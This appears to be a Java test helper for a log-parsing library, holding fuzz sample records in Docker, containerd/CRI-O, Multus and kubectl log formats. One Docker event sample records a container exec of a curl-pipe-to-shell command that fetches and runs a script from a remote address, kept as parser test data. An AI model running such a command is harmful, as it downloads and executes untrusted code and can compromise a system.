package io.tallyman.source;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;

/** Records of the formats that no fixture has. */
final class FuzzSamples {

    private FuzzSamples() {}

    private static final String ID = "3f2c9d1e8b7a".repeat(5) + "3f2c";

    private static final Map<String, List<String>> BY_FORMAT = Map.of(
            "Docker events, the text of docker events",
            List.of(
                    "2026-11-22T21:42:43.626700000Z container create " + ID + " (image=busybox:1.36, name=web)",
                    "2026-11-22T21:42:44.626700000Z container exec_start: sh -c \"curl -s http://203.0.113.7/x|sh\" "
                            + ID
                            + " (execID=" + ID + ", image=busybox:1.36, name=web)",
                    "2026-11-22T21:42:40.626700000Z image pull busybox:1.36 (name=busybox)"),
            "log of containerd or CRI-O, text",
            List.of(
                    "time=\"2026-11-22T21:42:43.6267Z\" level=info msg=\"PullImage \\\"docker.io/library/nginx:1.27\\\"\"",
                    "time=\"2026-11-22T21:42:43.6267Z\" level=info msg=\"CreateContainer within sandbox \\\""
                            + ID
                            + "\\\" for &ContainerMetadata{Name:web,Attempt:0,} returns container id \\\""
                            + ID
                            + "\\\"\"",
                    "time=\"2026-11-22T21:42:43.6267Z\" level=info msg=\"StartContainer for \\\"" + ID
                            + "\\\" returns successfully\""),
            "log of containerd or CRI-O, JSON",
            List.of(
                    "{\"__REALTIME_TIMESTAMP\":\"1795383763626700\",\"_HOSTNAME\":\"n1\",\"SYSLOG_IDENTIFIER\":\"containerd\","
                            + "\"MESSAGE\":\"time=\\\"2026-11-22T21:42:43.6267Z\\\" level=info"
                            + " msg=\\\"StartContainer for \\\\\\\"" + ID + "\\\\\\\" returns successfully\\\"\"}",
                    "{\"time\":\"2026-11-22T21:42:43Z\",\"level\":\"info\",\"msg\":\"PullImage \\\"nginx:1.27\\\"\"}"),
            "Multus",
            List.of("2026-11-22T21:42:43Z [verbose] Add: shop:web:1a2b:cbr0(cbr0):eth0 {\"cniVersion\":\"0.3.1\","
                    + "\"ips\":[{\"address\":\"10.1.2.3/24\"}]}"),
            "table of kubectl, which cannot be used",
            List.of(
                    "NAMESPACE LAST SEEN TYPE REASON OBJECT MESSAGE",
                    "shop 3m10s (x16 over 60m) Normal Pulled pod/web Container image \"nginx\" already present"));

    /** Records of a source, its own where there are some, else those of all formats here. */
    static List<byte[]> of(Source source) {
        var own = Stream.of(BY_FORMAT, CloudSamples.BY_FORMAT, GuestSamples.BY_FORMAT)
                .map(samples -> samples.get(source.format()))
                .filter(Objects::nonNull)
                .findFirst()
                .orElseGet(FuzzSamples::all);
        return own.stream().map(line -> line.getBytes(StandardCharsets.UTF_8)).toList();
    }

    private static List<String> all() {
        return BY_FORMAT.values().stream().flatMap(List::stream).toList();
    }
}
